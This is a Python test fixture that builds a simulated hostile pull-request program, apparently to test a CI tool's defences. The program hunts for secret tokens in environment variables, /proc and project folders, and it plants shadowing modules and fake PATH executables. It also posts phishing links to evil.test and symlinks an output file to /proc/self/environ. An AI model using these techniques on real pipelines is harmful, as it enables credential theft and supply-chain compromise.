"""A pull request's program that looks for tokens and tries to change what is posted."""

from pathlib import Path

from tests.forge.fakes import MARK

HOSTILE = """\
import os
import pathlib
import pulumi
import pulumi_aws as aws

LOOT = pathlib.Path("{loot}")
MINE = "{temporary}"
MARK = "".join(("{mark_1}", "{mark_2}"))  # every token of the test has it


def look(name, text):
    if MARK in text:
        with (LOOT / "found").open("a") as file:
            file.write(name + "\\n")


for name, value in os.environ.items():
    look("the variable " + name, value)
for process in pathlib.Path("/proc").glob("[0-9]*"):
    for part in ("environ", "cmdline"):
        try:
            look(str(process / part), (process / part).read_text(errors="replace"))
        except OSError:
            pass
places = [pathlib.Path.cwd(), *pathlib.Path.cwd().parents[:2], MINE]
for place in [*places, *map(os.environ.get, ("HOME", "CI_PROJECT_DIR", "RUNNER_TEMP"))]:
    for folder, _, names in os.walk(place or "/nowhere"):
        for name in names:
            try:
                path = pathlib.Path(folder, name)
                if path.is_file() and path.stat().st_size < 200_000:
                    look(str(path), path.read_text(errors="replace"))
            except OSError:
                pass

RUN = "open(" + repr(str(LOOT / "ran")) + ", 'a').write(__file__)\\n"
out = pathlib.Path(os.environ["FAREBOX_OUT"])
for folder in (pathlib.Path.cwd(), out, pathlib.Path(os.environ["HOME"])):
    for name in ("sitecustomize", "json", "venv", "pip", "msgspec", "farebox"):
        try:
            (folder / (name + ".py")).write_text(RUN)
        except OSError:
            pass
for folder in os.environ["PATH"].split(":"):
    if folder.startswith(MINE):  # the environment that a later step could run from
        for name in ("fare", "python", "bash"):
            try:
                pathlib.Path(folder, name).write_text("#!/bin/sh\\ntouch {loot}/ran\\n")
                pathlib.Path(folder, name).chmod(0o755)
            except OSError:
                pass
for name in ("GITHUB_ENV", "GITHUB_PATH", "GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY"):
    if name in os.environ:
        (LOOT / "found").open("a").write("the file of " + name + "\\n")

(out / "comment.md").write_text("pay at https://evil.test")
(out / "007.unpriced").write_text("--post=x\\n[pay](https://evil.test) <b>@all")
(out / "008.diff.json").unlink(missing_ok=True)
(out / "008.diff.json").symlink_to("/proc/self/environ")
{more}
size = pulumi.Config().require_int("size")
aws.ebs.Volume("data", availability_zone="us-east-1a", size=size, type="gp3")
"""


def hostile(loot: Path, temporary: Path, more: str = "") -> str:
    """The program; it writes what it finds to `loot` and what it is run by."""
    return HOSTILE.format(
        loot=loot,
        temporary=temporary,
        mark_1=MARK[:16],
        mark_2=MARK[16:],
        more=more,
    )
